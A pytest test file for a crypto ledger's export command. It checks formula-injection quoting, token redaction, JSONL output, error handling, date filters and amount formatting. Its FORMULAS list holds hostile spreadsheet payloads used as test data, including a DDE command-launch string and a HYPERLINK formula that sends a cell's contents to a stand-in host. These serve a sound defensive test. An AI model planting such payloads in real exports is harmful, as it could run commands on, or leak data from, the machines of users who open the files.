"""``ledger export`` fed hostile text in every column of a send, and a hostile stdout:
no cell a spreadsheet evaluates, no token, one valid JSON document per line, and a clear
error (never a traceback) when its output cannot be written."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from runner.ledger import Ledger
from runner.ledger.export import COLUMNS, safe_cell
from tests.cli.test_ledger_lifecycle import ledger_cli

TOKEN = "wai_sess_eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJub3BlIn0.c2VjcmV0LXNpZ25hdHVyZQ"

# what a spreadsheet may evaluate, however it is dressed
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "  +cmd|' /C calc'!A0",
    "\u00a0=1",
    "\u3000=1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://x.invalid/?"&A1)',
]

# the text columns of the sends table, as the export names them
TEXT_COLUMNS = {
    "run_id": "run_id",
    "playbook": "playbook",
    "step": "step_id",
    "wallet": "wallet_id",
    "network": "network",
    "to": "to_address",
    "symbol": "symbol",
    "tx_id": "tx_id",
    "tx_status": "tx_status",
    "note": "note",
}


def hostile_ledger(path: Path, texts: list[str]) -> Path:
    """One send per text, that text in every text column (and its memo)."""
    Ledger(path).close()
    db = sqlite3.connect(path)
    now = time.time() - 60
    for number, memo in enumerate(texts):
        # a lone surrogate only gets in through the request's JSON (an escape there)
        text = memo.encode("utf-8", "replace").decode("utf-8")
        request = json.dumps({"amount": "5", "to": text, "memo": memo, "type": "TRANSFER"})
        db.execute(
            "INSERT INTO sends (key, run_id, playbook, step_id, wallet_id, network, "
            "to_address, amount_raw, symbol, request, state, tx_id, tx_status, note, "
            "intended_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, '5', ?, ?, 'accepted', ?, "
            "?, ?, ?, ?)",
            (
                f"k{number}",
                *[text] * 6,
                text,
                request,
                f"{text}#{number}",
                text,
                text,
                now + number,
                now + number,
            ),
        )
    db.commit()
    db.close()
    return path


def test_no_cell_of_any_column_is_a_formula(tmp_path: Path) -> None:
    path = hostile_ledger(tmp_path / "ledger.sqlite3", FORMULAS)
    code, out, _ = ledger_cli("export", "--state", str(path))
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in (*TEXT_COLUMNS, "memo"):
            assert row[column].startswith("'"), (column, row[column])
            assert row[column].removeprefix("'").startswith(text), (column, row[column])


@pytest.mark.parametrize("text", FORMULAS)
def test_safe_cell_quotes_every_formula_form(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["0xabc", "ETH", "1.5", "a=b", "CONFIRMED", "", "'quoted"])
def test_safe_cell_leaves_plain_text_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("output_format", ["csv", "jsonl"])
def test_a_token_in_any_column_never_leaves(tmp_path: Path, output_format: str) -> None:
    path = hostile_ledger(tmp_path / "ledger.sqlite3", [f"x {TOKEN} y", TOKEN])
    code, out, err = ledger_cli("export", "--format", output_format, "--state", str(path))
    assert code == 0 and "eyJ" not in out + err and "c2VjcmV0" not in out + err


def test_jsonl_is_one_valid_document_per_line_whatever_the_text(tmp_path: Path) -> None:
    texts = ["line\nbreak", "cr\rhere", "\u2028sep\u2029", 'quote"and\\', "日本語", "\ud800lone"]
    path = hostile_ledger(tmp_path / "ledger.sqlite3", texts)
    code, out, _ = ledger_cli("export", "--format", "jsonl", "--state", str(path))
    assert code == 0
    lines = out.split("\n")
    assert lines[-1] == "" and len(lines) == len(texts) + 1
    records = [json.loads(line) for line in lines[:-1]]
    assert [record["memo"] for record in records[:5]] == texts[:5]
    assert all(set(record) == set(COLUMNS) for record in records)
    code, out, _ = ledger_cli("export", "--state", str(path))  # CSV writes them too
    assert code == 0 and len(list(csv.DictReader(io.StringIO(out, newline="")))) == len(texts)


def test_an_output_that_cannot_be_written_is_a_clear_error(tmp_path: Path) -> None:
    """Reproduction: `ledger export > sends.csv` on a full disk ended in a traceback
    (OSError: No space left on device)."""
    path = hostile_ledger(tmp_path / "ledger.sqlite3", ["a", "b"])
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "runner", "ledger", "export", "--state", str(path)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert "No space left on device" in result.stderr and "may be incomplete" in result.stderr


@pytest.mark.parametrize(
    ("since", "said"),
    [("400d", "too long"), ("30days", "invalid duration"), ("yesterday", "neither a date")],
)
def test_since_says_what_is_wrong(tmp_path: Path, since: str, said: str) -> None:
    path = hostile_ledger(tmp_path / "ledger.sqlite3", ["a"])
    code, _, err = ledger_cli("export", "--since", since, "--state", str(path))
    assert code == 2 and said in err and "--since" in err, err


@pytest.mark.parametrize(
    ("since", "count"),
    [
        ("2000-01-01", 1),
        ("2000-01-01T00:00:00Z", 1),
        ("2000-01-01T00:00:00+05:00", 1),
        ("9999-12-31", 0),
        ("1h", 1),
        ("1s", 0),
        (" 2000-01-01 ", 1),
    ],
)
def test_since_as_a_date_or_a_duration(tmp_path: Path, since: str, count: int) -> None:
    path = hostile_ledger(tmp_path / "ledger.sqlite3", ["a"])
    code, out, err = ledger_cli(
        "export", "--since", since, "--format", "jsonl", "--state", str(path)
    )
    assert code == 0 and len(out.splitlines()) == count and f"{count} send(s)" in err


def test_an_unknown_playbook_exports_nothing_and_says_so(tmp_path: Path) -> None:
    """Reproduction: a typo in --playbook gave an empty export and exit 0 with nothing to
    tell it from a playbook that never sent."""
    path = hostile_ledger(tmp_path / "ledger.sqlite3", ["a", "b", "=c"])
    code, out, err = ledger_cli("export", "--playbook", "nope", "--state", str(path))
    assert code == 0 and out.splitlines() == [",".join(COLUMNS)] and "0 send(s)" in err
    assert "no playbook named 'nope' has sends" in err and "=c, a, b" in err, err
    # a known playbook with nothing in the window is not called unknown
    code, _, err = ledger_cli("export", "--playbook", "a", "--since", "1s", "--state", str(path))
    assert code == 0 and "0 send(s)" in err and "no playbook named" not in err


def amounts_ledger(path: Path, sends: list[tuple[str, str, object]]) -> Path:
    """Sends of (amount_raw, symbol, the request's token decimals or None)."""
    Ledger(path).close()
    db = sqlite3.connect(path)
    for number, (raw, symbol, decimals) in enumerate(sends):
        body: dict[str, object] = {"amount": raw, "to": "0xabc", "type": "TRANSFER"}
        if decimals is not None:
            body["token"] = {"address": "0xtoken", "decimals": decimals}
        db.execute(
            "INSERT INTO sends (key, run_id, playbook, step_id, wallet_id, network, "
            "to_address, amount_raw, symbol, request, state, tx_id, tx_status, note, "
            "intended_at, updated_at) VALUES (?, 'r', 'pb', 's', 'w', 'ethereum-sepolia', "
            "'0xabc', ?, ?, ?, 'accepted', ?, 'CONFIRMED', NULL, ?, ?)",
            (f"k{number:03d}", raw, symbol, json.dumps(body), f"tx{number}", number, number),
        )
    db.commit()
    db.close()
    return path


@pytest.mark.parametrize(
    ("raw", "symbol", "decimals", "amount"),
    [
        ("1", "ETH", None, "0.000000000000000001"),  # was "1E-18"
        ("1000", "ETH", None, "0.000000000000001"),  # was "1E-15"
        ("10000000000000000000", "ETH", None, "10"),
        ("0", "ETH", None, "0"),
        ("1", "SOL", None, "0.000000001"),  # was "1E-9"
        ("1500000", "USDC", 6, "1.5"),
        ("5", "TKN", 0, "5"),
        ("5", "TKN", True, ""),  # not decimals: unknown, never 0.5
        ("5", "TKN", -5, ""),
        ("5", "TKN", 10**6, ""),
        ("5", "TKN", "6", ""),
        ("5", "NOPE", None, ""),  # no built-in decimals
    ],
)
def test_amounts_are_positional_and_only_from_real_decimals(
    tmp_path: Path, raw: str, symbol: str, decimals: object, amount: str
) -> None:
    path = amounts_ledger(tmp_path / "ledger.sqlite3", [(raw, symbol, decimals)])
    code, out, _ = ledger_cli("export", "--state", str(path))
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert code == 0 and row["amount"] == amount and row["amount_raw"] == raw, row
    code, out, _ = ledger_cli("export", "--format", "jsonl", "--state", str(path))
    assert json.loads(out)["amount"] == (amount or None)
